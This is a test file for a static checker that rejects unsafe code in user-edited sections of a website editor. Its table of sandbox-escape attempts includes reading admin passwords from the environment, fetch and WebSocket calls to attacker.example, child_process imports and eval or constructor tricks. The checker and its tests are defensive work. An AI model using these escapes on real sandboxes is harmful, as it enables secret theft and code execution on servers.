import fs from 'node:fs';
import path from 'node:path';
import { EDITABLE_FILES, fileUrl } from '@cedar/api-contract';
import ts from 'typescript';
import { afterEach, describe, expect, it } from 'vitest';
import { findRepoRoot } from '../lib/repo-root';
import { buildLoggedIn, type LoggedIn, type TestApp } from '../test/build';
import { SECTION_IMPORTS } from '../web-app';
import { checkSection } from './section-check';

const HERO = 'apps/web/src/sections/hero-section.tsx';
const repoRoot = findRepoRoot()!;

/** The specifiers a file imports (type-only imports included). */
function importsOf(source: string): string[] {
  const file = ts.createSourceFile(
    'x.tsx',
    source,
    ts.ScriptTarget.Latest,
    true,
    ts.ScriptKind.TSX,
  );
  return file.statements
    .filter(ts.isImportDeclaration)
    .map((s) => (s.moduleSpecifier as ts.StringLiteral).text);
}

/** A hero section whose body is `code`, placed where a real edit would put it. */
const hero = (code: string, imports = "import { Box } from '../ui';\n") =>
  `${imports}\nexport function HeroSection() {\n  ${code}\n  return <Box>Cedar Bluff Labradors</Box>;\n}\n`;

/**
 * Ways an edited section could try to reach the server when the rebuild runs it. Each must be
 * refused, at the line where it starts.
 */
const ESCAPES: [label: string, source: string, reason: string][] = [
  [
    'reads the environment',
    hero('const secret = process.env.ADMIN_PASSWORD;'),
    "'process' is not allowed in a section",
  ],
  [
    'process through globalThis',
    hero("const p = globalThis['process'];"),
    "'globalThis' is not allowed in a section",
  ],
  ['global (Node)', hero('const p = global.process;'), "'global' is not allowed in a section"],
  ['window', hero('const w = window;'), "'window' is not allowed in a section"],
  ['self', hero('const s = self;'), "'self' is not allowed in a section"],
  ['document', hero("document.cookie = 'x';"), "'document' is not allowed in a section"],
  ['fetch', hero("fetch('http://attacker.example/?d=1');"), "'fetch' is not allowed in a section"],
  [
    'XMLHttpRequest',
    hero('const x = new XMLHttpRequest();'),
    "'XMLHttpRequest' is not allowed in a section",
  ],
  [
    'WebSocket',
    hero("const ws = new WebSocket('ws://attacker.example');"),
    "'WebSocket' is not allowed in a section",
  ],
  ['Buffer', hero("const b = Buffer.from('x');"), "'Buffer' is not allowed in a section"],
  ['module', hero('const m = module;'), "'module' is not allowed in a section"],
  ['__dirname', hero('const d = __dirname;'), "'__dirname' is not allowed in a section"],
  ['require', hero("const fs = require('fs');"), "'require' is not allowed in a section"],
  [
    'import of a Node module',
    hero('', "import fs from 'node:fs';\n"),
    "importing 'node:fs' is not allowed",
  ],
  [
    'import of child_process',
    hero('', "import { execSync } from 'child_process';\n"),
    "importing 'child_process' is not allowed",
  ],
  [
    'import of a server file',
    hero('', "import { loadEnv } from '../../../api/src/env';\n"),
    "importing '../../../api/src/env' is not allowed",
  ],
  [
    'raw import of the store',
    hero('', "import data from '../../../../data/admins.db?raw';\n"),
    "importing '../../../../data/admins.db?raw' is not allowed",
  ],
  [
    're-export from elsewhere',
    `export * from 'node:os';\n${hero('')}`,
    "importing 'node:os' is not allowed",
  ],
  [
    'import = require',
    hero('', "import fs = require('fs');\n"),
    "'import … = require()' is not allowed",
  ],
  ['dynamic import()', hero("void import('node:fs');"), 'dynamic import() is not allowed'],
  ['import.meta', hero('const u = import.meta.url;'), 'import.meta is not allowed'],
  [
    'import.meta.glob',
    hero("const all = import.meta.glob('/**/*');"),
    'import.meta is not allowed',
  ],
  ['eval', hero("eval('1 + 1');"), "'eval' is not allowed in a section"],
  ['indirect eval', hero("(0, eval)('1');"), "'eval' is not allowed in a section"],
  [
    'Function constructor',
    hero("const f = Function('return this')();"),
    "'Function' is not allowed in a section",
  ],
  [
    'new Function',
    hero("const f = new Function('return 1');"),
    "'Function' is not allowed in a section",
  ],
  [
    'constructor of a function',
    hero("const F = (() => 0).constructor('return process')();"),
    "the member 'constructor' is not allowed",
  ],
  [
    'constructor by quoted key',
    hero("const F = (() => 0)['constructor'];"),
    "the member 'constructor' is not allowed",
  ],
  [
    'constructor by template key',
    hero('const F = (() => 0)[`constructor`];'),
    "the member 'constructor' is not allowed",
  ],
  [
    'constructor by destructuring',
    hero('const { constructor: F } = () => 0;'),
    "the member 'constructor' is not allowed",
  ],
  [
    'constructor by shorthand destructuring',
    hero('const { constructor } = () => 0;'),
    "the member 'constructor' is not allowed",
  ],
  ['__proto__ member', hero('const p = ({}).__proto__;'), "the member '__proto__' is not allowed"],
  [
    '__proto__ in a literal',
    hero('const o = { __proto__: null };'),
    "the member '__proto__' is not allowed",
  ],
  ['prototype', hero('const p = Array.prototype;'), "the member 'prototype' is not allowed"],
  [
    'computed member with a variable key',
    hero("const k = 'constr' + 'uctor';\n  const F = (() => 0)[k];"),
    'a computed member must be a quoted name or a number',
  ],
  [
    'computed member with a template key',
    hero("const k = 'x';\n  const v = ({ x: 1 })[`${k}`];"),
    'a computed member must be a quoted name or a number',
  ],
  [
    'computed property name from a variable',
    hero("const k = 'x';\n  const o = { [k]: 1 };"),
    'a computed property name must be a quoted name or a number',
  ],
  [
    'computed key in destructuring',
    hero("const k = 'x';\n  const { [k]: v } = { x: 1 };"),
    'a computed property name must be a quoted name or a number',
  ],
  [
    'with statement',
    `${hero('')}\nfunction f(o: object) {\n  with (o) {}\n}\n`,
    "'with' is not allowed",
  ],
  ['this', hero('const g = this;'), "'this' is not allowed"],
  [
    'arguments',
    `${hero('')}\nfunction f() {\n  return arguments;\n}\n`,
    "'arguments' is not allowed in a section",
  ],
  [
    'Reflect',
    hero("const F = Reflect.get(() => 0, 'constructor');"),
    "'Reflect' is not allowed in a section",
  ],
  [
    'Object.getPrototypeOf',
    hero('const p = Object.getPrototypeOf(() => 0);'),
    "'Object' is not allowed in a section",
  ],
  ['Proxy', hero('const p = new Proxy({}, {});'), "'Proxy' is not allowed in a section"],
  [
    'Error.prepareStackTrace',
    hero('Error.prepareStackTrace = () => 0;'),
    "'Error' is not allowed in a section",
  ],
  [
    'setTimeout (a Node global)',
    hero('setTimeout(() => 0, 1);'),
    "'setTimeout' is not allowed in a section",
  ],
  [
    'structuredClone (a Node global)',
    hero('const c = structuredClone({});'),
    "'structuredClone' is not allowed in a section",
  ],
  [
    'a host global shadowed elsewhere',
    `${hero('const e = process.env;')}\nfunction f() {\n  const process = 1;\n  return process;\n}\n`,
    "'process' is not allowed in a section",
  ],
  [
    'an undeclared global',
    hero('const n = navigator.userAgent;'),
    "'navigator' is not allowed in a section",
  ],
  [
    'a global not on the allowed list',
    hero('const q = queueMicrotask;'),
    "'queueMicrotask' is not allowed in a section",
  ],
  ['a class', `class X {}\n${hero('')}`, 'classes are not allowed in a section'],
  [
    'JSX member tag on window',
    hero('const el = <window.Foo />;'),
    "'window' is not allowed in a section",
  ],
  [
    'typeof process',
    hero("const t = typeof process === 'object';"),
    "'process' is not allowed in a section",
  ],
];

describe('the static check of an edited section', () => {
  it('passes the seven section files as shipped, and their imports are the table', () => {
    for (const { path: file } of EDITABLE_FILES) {
      const source = fs.readFileSync(path.join(repoRoot, file), 'utf8');
      expect(checkSection(file, source), file).toBeNull();
      expect([...new Set(importsOf(source))].sort(), file).toEqual(
        [...SECTION_IMPORTS[file]].sort(),
      );
    }
  });

  it(`refuses ${ESCAPES.length} ways to reach the server, each at its line and column`, () => {
    expect(ESCAPES.length).toBeGreaterThanOrEqual(30);
    for (const [label, source, reason] of ESCAPES) {
      const problem = checkSection(HERO, source);
      expect(problem, label).not.toBeNull();
      expect(problem!.message, label).toContain(reason);
      expect(problem!.message, label).toMatch(/^Line \d+, column \d+: .+\.$/);
      expect(problem!.line, label).toBeGreaterThan(0);
      // The position points into the file: the line exists and the column is within it.
      const line = source.split('\n')[problem!.line - 1];
      expect(line, label).toBeDefined();
      expect(problem!.column, label).toBeLessThanOrEqual(line!.length + 1);
    }
  });

  it('refuses a Health Testing section that holds its own popup again (its cards are kept as prerendered, so its state would never run)', () => {
    // The section's shape before its popup moved to the page (a revision the owner could restore).
    const earlier = `import { Box, Card, Title } from '../ui';
import { healthCards } from '@cedar/content';
import { useState } from 'react';
import { Popup } from '../components/popup';

export function HealthTestingSection() {
  const [card, setCard] = useState<string | null>(null);
  return (
    <Box component="section">
      {healthCards.map((c) => (
        <Card key={c.id} onClick={() => setCard(c.id)}>
          <Title order={3}>{c.title}</Title>
        </Card>
      ))}
      <Popup opened={card !== null} onClose={() => setCard(null)} title={card} closeLabel="Close">
        {card}
      </Popup>
    </Box>
  );
}
`;
    const problem = checkSection('apps/web/src/sections/health-testing-section.tsx', earlier);
    expect(problem?.line).toBe(3);
    expect(problem?.message).toMatch(/importing 'react' is not allowed/);
  });

  it('names the first offence where it is', () => {
    const problem = checkSection(HERO, hero('const secret = process.env.ADMIN_PASSWORD;'));
    expect(problem).toEqual({
      message: "Line 4, column 18: 'process' is not allowed in a section.",
      line: 4,
      column: 18,
    });
    const imported = checkSection(HERO, hero('', "import fs from 'node:fs';\n"));
    expect(imported?.message).toMatch(
      /^Line 1, column 1: importing 'node:fs' is not allowed; this file may import only '\.\.\/ui'/,
    );
  });

  it('lets ordinary edits through: text, lists, conditions, literal keys, types, allowed globals', () => {
    const ordinary = `import { Box, Text } from '../ui';
import { homeCopy } from '@cedar/content';
import { useState, type ReactNode } from 'react';

const copy = {
  headline: 'Cedar Bluff Labradors',
  'tag-line': "English Labradors bred for beauty & temperament — it's our 50th year",
  items: ['Champion bloodlines', 'Holistic care'],
} as const;

type Props = { children?: ReactNode };

export function HeroSection({ children }: Props) {
  const [open, setOpen] = useState(false);
  const year = new Date().getFullYear();
  const first = copy.items[0];
  const label = copy['tag-line'];
  const rounded = Math.round(Number('4.6'));
  console.log(JSON.stringify({ year, rounded }));
  return (
    <Box onClick={() => setOpen(!open)}>
      <Text>{open ? copy.headline : first}</Text>
      <p className="tagline">{label}</p>
      {copy.items.map((item, index) => (
        <span key={item}>{index + 1}. {item}</span>
      ))}
      {homeCopy.images.hero}
      {children}
    </Box>
  );
}
`;
    expect(checkSection(HERO, ordinary)).toBeNull();
  });
});

describe('saving a section that breaks the rules', () => {
  let a: (TestApp & LoggedIn) | undefined;
  afterEach(async () => {
    await a?.close();
    a = undefined;
  });

  it('answers 422 with the line and column and leaves the file untouched', async () => {
    a = await buildLoggedIn();
    const before = fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8');
    const res = await a.app.inject({
      method: 'PUT',
      url: fileUrl(HERO),
      headers: { ...a.headers, 'content-type': 'text/plain' },
      payload: hero('const secret = process.env.ADMIN_PASSWORD;', ''),
    });
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({
      error: 'forbidden_code',
      message: "Line 3, column 18: 'process' is not allowed in a section.",
      line: 3,
      column: 18,
    });
    expect(fs.readFileSync(path.join(a.repoRoot, HERO), 'utf8')).toBe(before);
    expect(await a.services.store.revisions.list(HERO)).toEqual([]);
  });
});
